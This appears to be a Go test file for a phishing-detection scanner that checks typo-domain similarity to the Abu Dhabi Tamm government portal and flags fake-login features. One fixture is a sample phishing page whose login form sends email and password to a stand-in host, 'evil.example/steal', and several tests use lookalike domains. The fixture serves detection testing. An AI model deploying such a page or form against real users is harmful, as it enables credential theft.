package scan

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestLevenshtein(t *testing.T) {
	tests := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"abc", "", 3},
		{"", "abc", 3},
		{"kitten", "sitting", 3},
		{"tamm", "tamm", 0},
		{"tamm", "tann", 1},
		{"flaw", "lawn", 2},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.want, Levenshtein(tt.a, tt.b), "%q vs %q", tt.a, tt.b)
	}
}

func TestURLSimilarity(t *testing.T) {
	assert.Equal(t, 100.0, URLSimilarity("https://www.tamm.abudhabi/en/login", "www.tamm.abudhabi"))

	typo := URLSimilarity("https://www.tanm.abudhabi", "www.tamm.abudhabi")
	assert.Greater(t, typo, 90.0)
	assert.Less(t, typo, 100.0)

	unrelated := URLSimilarity("https://zz.example", "www.tamm.abudhabi")
	assert.Less(t, unrelated, 40.0)

	assert.Equal(t, 0.0, URLSimilarity("", "www.tamm.abudhabi"))
}

const phishingPage = `<html><body>
<img src="/assets/tamm-logo.png" alt="Tamm">
<h1>Abu Dhabi Government Services</h1>
<p>Secure login to your account. Enter email and password.</p>
<form action="https://evil.example/steal" method="post">
  <input type="email" name="email">
  <input type="password" name="password">
</form>
</body></html>`

const benignPage = `<html><body>
<h1>Community gardening tips</h1>
<p>How to grow tomatoes on a balcony.</p>
</body></html>`

func TestAnalyzeDetectsPhishingFeatures(t *testing.T) {
	analyzer := NewAnalyzer(DefaultBrandTerms, DefaultFingerprints)
	got := analyzer.Analyze(phishingPage, phishingPage)

	assert.True(t, got.HasLoginForm)
	assert.True(t, got.HasLogo)
	assert.Contains(t, got.Features, FeatureFakeLogin)
	assert.Contains(t, got.Features, FeatureLogoClone)
	assert.Contains(t, got.Features, FeatureSSLEmphasis)
	assert.Contains(t, got.Features, FeatureSimilarLayout)
	assert.Contains(t, got.Features, FeatureDataHarvesting)
	assert.Contains(t, got.Features, FeatureSSLValid)
	assert.NotContains(t, got.Features, FeatureSSLMissing)
	assert.Equal(t, []string{"POST https://evil.example/steal"}, got.FormTargets)
	assert.Greater(t, got.Similarity, 65.0)
}

func TestAnalyzeBenignPageScoresLow(t *testing.T) {
	analyzer := NewAnalyzer(DefaultBrandTerms, DefaultFingerprints)
	got := analyzer.Analyze(benignPage, phishingPage)

	assert.False(t, got.HasLoginForm)
	assert.False(t, got.HasLogo)
	assert.Contains(t, got.Features, FeatureSSLMissing)
	assert.Empty(t, got.FormTargets)
	assert.Less(t, got.Similarity, 30.0)
}

func TestAnalyzeFormWithoutAction(t *testing.T) {
	analyzer := NewAnalyzer(DefaultBrandTerms, DefaultFingerprints)
	got := analyzer.Analyze(`<form method="get"><input type="text"></form>`, "")
	assert.Equal(t, []string{"GET self"}, got.FormTargets)
}

func TestAnalyzeEmptyTarget(t *testing.T) {
	analyzer := NewAnalyzer(DefaultBrandTerms, DefaultFingerprints)
	got := analyzer.Analyze(benignPage, "")
	assert.LessOrEqual(t, got.Similarity, 100.0)
	assert.GreaterOrEqual(t, got.Similarity, 0.0)
}

func TestInferTargetPage(t *testing.T) {
	assert.Equal(t, PageLogin, InferTargetPage("https://tamn.abudhabi/en/LOGIN"))
	assert.Equal(t, PageBusinessServices, InferTargetPage("https://tamn.abudhabi/business"))
	assert.Equal(t, PagePayments, InferTargetPage("https://tamn.abudhabi/payment-portal"))
	assert.Equal(t, PageMain, InferTargetPage("https://tamn.abudhabi/"))
}
